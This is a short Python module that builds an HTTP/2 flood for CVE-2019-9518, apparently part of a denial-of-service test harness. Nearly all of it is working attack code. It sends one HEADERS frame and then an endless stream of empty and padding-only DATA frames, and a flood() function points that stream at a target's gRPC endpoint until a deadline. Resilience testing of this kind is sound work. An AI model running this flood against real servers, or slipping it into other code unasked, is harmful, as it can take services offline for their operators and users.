"""DATA frames without data or with padding only (CVE-2019-9518)."""

from wire import DATA, END_HEADERS, GET, HEADERS, PADDED, PREFACE, flood_connection, frame, settings


def chunks():
    yield frame(HEADERS, END_HEADERS, 1, b"\x83" + GET[1:])
    while True:
        yield frame(DATA, 0, 1) * 500 + frame(DATA, PADDED, 1, b"\x01\0") * 500


def flood(target, until):
    return flood_connection(target.grpc, until, PREFACE + settings(), chunks)
